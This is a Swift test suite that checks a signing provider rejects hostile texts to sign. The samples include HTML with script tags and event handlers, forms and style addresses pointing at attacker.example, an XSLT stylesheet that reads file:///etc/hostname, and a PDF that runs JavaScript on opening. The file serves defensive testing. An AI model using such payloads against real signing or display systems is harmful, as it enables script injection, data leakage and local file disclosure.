import FoundationEssentials
import MockProvider
import NemIDCrypto
import Testing

/// Texts to sign that would act in the frame, if the frame showed them.
///
/// Each ends the flow before anything is shown.
@Suite("Hostile texts to sign")
struct HostileSignTextTests {
    struct Hostile: Sendable, CustomTestStringConvertible {
        let testDescription: String
        let format: String
        let text: String
        /// A part of the text that would act.
        let active: String
        var transformation: String?

        init(_ name: String, _ format: String, _ text: String, active: String, transformation: String? = nil) {
            testDescription = name
            self.format = format
            self.text = text
            self.active = active
            self.transformation = transformation
        }

        static func html(_ name: String, _ active: String) -> Hostile {
            Hostile(name, "HTML", "<html><body><p>Aftale</p>\(active)</body></html>", active: active)
        }

        var parameters: [(String, String)] {
            var parameters = [
                ("CLIENTFLOW", "OCESSIGN2"), ("SIGNTEXT_FORMAT", format),
                ("SIGNTEXT", Base64.encode(Array(text.utf8))),
            ]
            if let transformation {
                parameters.append(("SIGNTEXT_TRANSFORMATION", Base64.encode(Array(transformation.utf8))))
            }
            return parameters
        }
    }

    static let all: [Hostile] = [
        .html("script", "<script>alert(1)</script>"),
        .html("event handler", "<p onclick=\"alert(1)\">x</p>"),
        .html("frame", "<iframe src=\"https://attacker.example/\"></iframe>"),
        .html("link out", "<a href=\"https://attacker.example/\">x</a>"),
        .html("link to a script", "<a href=\"javascript:alert(1)\">x</a>"),
        .html("form", "<form action=\"https://attacker.example/\"><input name=\"kode\"></form>"),
        .html("style with an address", "<p style=\"background:url(https://attacker.example/)\">x</p>"),
        .html("style sheet with an address", "<style>@import url(https://attacker.example/a.css);</style>"),
        .html("comment", "<!-- skjult -->"),
        Hostile(
            "stylesheet that writes a script",
            "XML",
            "<aftale/>",
            active: "<script>alert(1)</script>",
            transformation: """
                <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">\
                <html><body><script>alert(1)</script></body></html></xsl:template></xsl:stylesheet>
                """
        ),
        Hostile(
            "stylesheet that reads a file",
            "XML",
            "<aftale/>",
            active: "document('file:///etc/hostname')",
            transformation: """
                <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">\
                <html><body><p><xsl:value-of select="document('file:///etc/hostname')"/></p></body></html>\
                </xsl:template></xsl:stylesheet>
                """
        ),
        Hostile(
            "PDF that runs a script when opened",
            "PDF",
            "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF\n",
            active: "/JavaScript"
        ),
        Hostile(
            "PDF with a form",
            "PDF",
            "%PDF-1.4\n1 0 obj<</Type/Catalog/AcroForm<</Fields[]>>>>endobj\n%%EOF\n",
            active: "/AcroForm<<"
        ),
    ]

    @Test("PAR-12 each ends with APP002 and is never shown, in the frame and without one", arguments: all)
    func refuses(_ hostile: Hostile) async throws {
        #expect((hostile.transformation ?? hostile.text).contains(hostile.active))
        let world = try ProviderUnderTest(.inProcess)
        let json = try world.parameters(hostile.parameters).json()
        var frame = try await FrameDouble(world, json)
        #expect(frame.screen == "ended")
        #expect(frame.answer == "APP002")
        #expect(!frame.html.contains(hostile.active))
        #expect(!frame.html.contains("Aftale") && !frame.html.contains("aftale"))
        let response = try await world.provider.login(parametersJSON: json, as: "anna")
        #expect(Base64.decode(response.utf8) == Array("APP002".utf8))
        frame = try await FrameDouble(world, try world.parameters().json())
        #expect(frame.screen == "credentials", "a login beside it goes on")
    }

    @Test("PAR-12 the text in the parameters of a login is not shown either", arguments: all)
    func showsNone(_ hostile: Hostile) async throws {
        let world = try ProviderUnderTest(.inProcess)
        let parameters = hostile.parameters.filter { $0.0 != "CLIENTFLOW" }
        var frame = try await FrameDouble(world, try world.parameters(parameters).json())
        #expect(frame.screen == "credentials")
        #expect(!frame.html.contains(hostile.active) && !frame.html.contains("ftale"))
        try await frame.enter(userID: "anna", password: "solskin42")
        #expect(frame.screen == "key-card")
        #expect(!frame.html.contains(hostile.active) && !frame.html.contains("ftale"))
    }
}
